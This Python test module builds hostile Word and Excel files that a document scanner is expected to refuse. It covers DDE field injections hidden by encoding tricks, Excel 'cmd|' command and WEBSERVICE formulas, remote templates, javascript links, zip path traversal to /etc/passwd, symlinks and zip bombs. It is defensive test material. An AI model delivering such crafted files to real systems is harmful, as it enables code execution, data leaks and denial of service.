"""Word and Excel packages as an enemy sends them: macros, remote parts, bombs, overlaps. See `hostile_files`."""

import io
import random
import struct
import zipfile

from tests.tracking import benign_files as honest
from tests.tracking.hostile_files import HTML, REFUSED, Made, noise, refused


def _docx(**parts: bytes | str) -> Made:
    return "don.docx", honest.package({**honest.word_parts(), **parts})


def _related(kind: str, target: str) -> Made:
    rels = honest.relations(honest.relation(kind, target, external=True))
    return _docx(**{"word/_rels/document.xml.rels": rels})


def _code(*texts: str) -> str:
    """A field whose instruction was cut into these texts."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _worded(inside: str) -> Made:
    return _docx(**{"word/document.xml": honest.document(inside)})


def _sheet(xml: str) -> Made:
    return "a.xlsx", honest.package({**honest.excel_parts(), "xl/worksheets/sheet1.xml": xml})


def _typed(name: str, kind: str, part: bytes, relation: str) -> Made:
    """A part under a type of its own, related from the document."""
    types = str(honest.word_parts()[honest.CONTENT_TYPES])
    return _docx(
        **{
            honest.CONTENT_TYPES: types.replace(
                "</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
            ),
            name: part,
            "word/_rels/document.xml.rels": honest.relations(honest.relation(relation, name)),
        }
    )


_OTHER_PREFIX = f'<q:document xmlns:q="{honest.WORD_WORDS}"><q:p><q:instrText>DDEAUTO c</q:instrText></q:p></q:body>'
_STRANGER = '<x:a xmlns:x="urn:x">{}</x:a>'
_BEGIN = '<w:fldChar w:fldCharType="begin"/>'
_MHT = b'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src="https://example.org/x">'

# The words that act, written so that a search for them finds nothing.
REFUSED |= {
    "dde as a character reference": lambda r: _worded(_code("&#68;DEAUTO c:\\x")),
    "dde in a tag of another prefix": lambda r: _docx(**{"word/document.xml": _OTHER_PREFIX}),
    "dde in wide letters": lambda r: _docx(
        **{"word/document.xml": f'<?xml version="1.0" encoding="UTF-16"?>{_OTHER_PREFIX}'.encode("utf-16")}
    ),
    "dde in a code page": lambda r: _docx(
        **{"word/document.xml": f'<?xml version="1.0" encoding="windows-1258"?>{_OTHER_PREFIX}'}
    ),
    "dde with a comment inside": lambda r: _worded(_code("DD<!-- x -->E c")),
    "dde as raw text": lambda r: _worded(_code("<![CDATA[DDEAUTO c]]>")),
    "dde as a simple field by reference": lambda r: _worded('<w:fldSimple w:instr="&#x44;DE c"/>'),
    "dde in single quotes with spaces": lambda r: _worded("<w:fldSimple w:instr = ' DDE c'/>"),
    "dde behind words struck out": lambda r: _worded(
        f"{_BEGIN}<w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del><w:r><w:instrText>D</w:instrText>"
        "<w:instrText>DE c</w:instrText></w:r>"
    ),
    "dde behind what Word passes over": lambda r: _worded(
        _BEGIN + _STRANGER.format("<w:instrText>PAGE </w:instrText>") + "<w:instrText>DD</w:instrText>"
        "<w:instrText>E c</w:instrText>"
    ),
    "dde behind an end Word passes over": lambda r: _worded(
        _BEGIN
        + "<w:instrText>D</w:instrText>"
        + _STRANGER.format('<w:fldChar w:fldCharType="end"/>')
        + "<w:instrText>DE c</w:instrText>"
    ),
    "dde shown by a field inside": lambda r: _worded(
        f'{_BEGIN}{_BEGIN}<w:instrText>QUOTE 68</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>DDE</w:t>'
        '<w:fldChar w:fldCharType="end"/><w:instrText> c</w:instrText><w:fldChar w:fldCharType="end"/>'
    ),
    "dde in a field inside": lambda r: _worded(f"{_BEGIN}<w:instrText>IF 1=1 </w:instrText>{_code('DDE c')}"),
    "words fetched from a document": lambda r: _worded(_code("RD c:\\x.docx")),
    "web page as a chunk": lambda r: _typed("word/afchunk.dat", "message/rfc822", _MHT, "aFChunk"),
    "web page as a chunk, called text": lambda r: _typed("word/x.xml", "application/xml", _MHT, "aFChunk"),
    "chunk without its relation": lambda r: _worded('<w:altChunk r:id="r1" xmlns:r="r"/>'),
    "rich text inside": lambda r: _typed("word/a.rtf", "application/rtf", b"{\\rtf1}", "image"),
    "rich text inside, called a picture": lambda r: _typed("word/a.png", "image/png", b"{\\rtf1}", "image"),
    "part of an unknown type": lambda r: _typed("word/a.dat", "application/x-unknown", b"x", "image"),
    "part without a type": lambda r: _docx(**{"word/a.dat": b"x"}),
    "relation of an unknown type": lambda r: _typed("word/a.xml", "application/xml", b"<a/>", "doSomething"),
    "relation that only says inside": lambda r: _docx(
        **{"word/_rels/document.xml.rels": honest.relations(honest.relation("image", "https://example.org/x.png"))}
    ),
    "relation with a mode of its own": lambda r: _docx(
        **{
            "word/_rels/document.xml.rels": honest.relations(
                honest.relation("image", "x.png").replace("/>", ' TargetMode="&#69;xternal"/>')
            )
        }
    ),
    "drawing that fetches its picture": lambda r: _worded(
        '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\example.org\\x.png"/>'
    ),
    "formula by reference": lambda r: ("a.xlsx", honest.package(honest.excel_parts("cmd&#124;' /C calc'!A0"))),
    "formula of another prefix": lambda r: _sheet(
        '<x:worksheet xmlns:x="x"><x:c><x:f>WEBSERVICE("https://example.org")</x:f></x:c></x:worksheet>'
    ),
    "formula cut by an element": lambda r: _sheet("<worksheet><f>WEBSER<x/>VICE(A1)</f></worksheet>"),
    "formula around a formula": lambda r: _sheet("<worksheet><formula1><f>1</f>WEBSERVICE(A1)</formula1></worksheet>"),
    "formula between quoted names": lambda r: _sheet(
        "<worksheet><f>'a\"'!A1+cmd|'/c calc'!A0+'b\"'!A1</f></worksheet>"
    ),
    "formula in a name": lambda r: _sheet("<worksheet><definedName>cmd|'/c calc'!A0</definedName></worksheet>"),
    "namespace as long as a book": lambda r: _worded(f'<a xmlns="{"x" * 5000}"/>'),
    "two attributes of one name": lambda r: _worded(
        '<w:fldChar xmlns:q="q" q:fldCharType="end" w:fldCharType="begin"/>'
    ),
}

REFUSED |= {
    "docm": lambda r: ("don.docm", honest.docx()),
    "macro part": lambda r: _docx(**{"word/vbaProject.bin": noise(r)}),
    "macro type": lambda r: _docx(
        **{
            honest.CONTENT_TYPES: honest.types(
                "application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml"
            )
        }
    ),
    "activex": lambda r: _docx(**{"word/activeX/activeX1.bin": noise(r)}),
    "ole object": lambda r: _docx(**{"word/embeddings/oleObject1.bin": noise(r)}),
    "package in a package": lambda r: _docx(**{"word/media/image1.png": honest.docx()}),
    "program in a package": lambda r: _docx(**{"word/media/image1.png": b"MZ" + noise(r)}),
    "template from afar": lambda r: _related("attachedTemplate", "https://example.org/x.dotm"),
    "picture from afar": lambda r: _related("image", "\\\\example.org\\x.png"),
    "link to a script": lambda r: _related("hyperlink", "javascript:alert(1)"),
    "dde field": lambda r: _docx(**{"word/document.xml": honest.document(_code("DDE", "AUTO c"))}),
    "include field": lambda r: _docx(
        **{"word/document.xml": honest.document('<w:fldSimple w:instr="INCLUDETEXT https://example.org"/>')}
    ),
    "entities": lambda r: _docx(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}),
    "broken relations": lambda r: _docx(**{"word/_rels/x.rels": "<a"}),
    "excel called word": lambda r: ("don.docx", honest.xlsx()),
    "excel with a command": lambda r: ("a.xlsx", honest.package(honest.excel_parts("cmd|'/c calc'!A1"))),
    "excel that calls the web": lambda r: (
        "a.xlsx",
        honest.package(honest.excel_parts('WEBSERVICE("https://example.org")')),
    ),
    "excel with links": lambda r: (
        "a.xlsx",
        honest.package({**honest.excel_parts(), "xl/externalLinks/externalLink1.xml": "<a/>"}),
    ),
    "excel macro sheet": lambda r: (
        "a.xlsx",
        honest.package({**honest.excel_parts(), "xl/macrosheets/sheet1.xml": "<a/>"}),
    ),
    "path upward": lambda r: _docx(**{"../../etc/cron.d/x": "x"}),
    "path from the root": lambda r: _docx(**{"/etc/passwd": "x"}),
    "path of Windows": lambda r: _docx(**{"..\\..\\x": "x"}),
    "bomb": lambda r: _docx(**{"word/media/a.bin": bytes(8 * 1024 * 1024)}),
    "bomb in many parts": lambda r: _docx(**{f"word/{n}.bin": bytes(1024 * 1024) for n in range(80)}),
    "thousands of parts": lambda r: _docx(**{f"word/{n}": "" for n in range(2100)}),
    "page in front of a package": lambda r: ("don.docx", HTML + honest.docx()),
    "page behind a package": lambda r: ("don.docx", honest.docx() + HTML),
    "page in the comment of a package": lambda r: ("don.docx", _commented(HTML)),
    "package cut off": lambda r: ("don.docx", honest.docx()[: 300 + r.randrange(100)]),
}


@refused
def symbolic_link(rng: random.Random) -> Made:
    out = io.BytesIO(honest.docx())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/lien-ket")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return "don.docx", out.getvalue()


@refused
def two_parts_of_one_name(rng: random.Random) -> Made:
    out = io.BytesIO(honest.docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/DOCUMENT.XML", "<a/>")
    return "don.docx", out.getvalue()


@refused
def locked_part(rng: random.Random) -> Made:
    return "don.docx", _flagged(honest.docx(), 0x1)


@refused
def wrong_size_declared(rng: random.Random) -> Made:
    """The directory says ten bytes; the stream holds a megabyte."""
    whole = bytearray(_docx(**{"word/z.bin": bytes(1024 * 1024)})[1])
    at = whole.rindex(b"word/z.bin") - 46
    struct.pack_into("<I", whole, at + 24, 10)
    return "don.docx", bytes(whole)


@refused
def overlapping_parts(rng: random.Random) -> Made:
    """Many directory entries that share one compressed stream: small, and unpacking to no end."""
    whole = _docx(**{"word/z.bin": bytes(900 * 1024)})[1]
    start = whole.rindex(b"PK\x05\x06")
    directory_at = struct.unpack_from("<I", whole, start + 16)[0]
    directory = whole[directory_at:start]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"word/z.bin", f"word/{n:05}".encode()) for n in range(50))
    count = struct.unpack_from("<H", whole, start + 10)[0] + 50
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(directory + copies), directory_at, 0)
    return "don.docx", whole[:directory_at] + directory + copies + end


@refused
def hidden_between_parts(rng: random.Random) -> Made:
    """Bytes no entry owns, before the directory."""
    whole = honest.docx()
    end = whole.rindex(b"PK\x05\x06")
    at = struct.unpack_from("<I", whole, end + 16)[0]
    tail = bytearray(whole[end:])
    struct.pack_into("<I", tail, 16, at + len(HTML))
    return "don.docx", whole[:at] + HTML + whole[at:end] + bytes(tail)


def _flagged(data: bytes, flag: int) -> bytes:
    changed = bytearray(data)
    at = changed.index(b"PK\x01\x02")
    changed[at + 8] |= flag
    changed[6] |= flag
    return bytes(changed)


def _commented(comment: bytes) -> bytes:
    out = io.BytesIO(honest.docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = comment
    return out.getvalue()
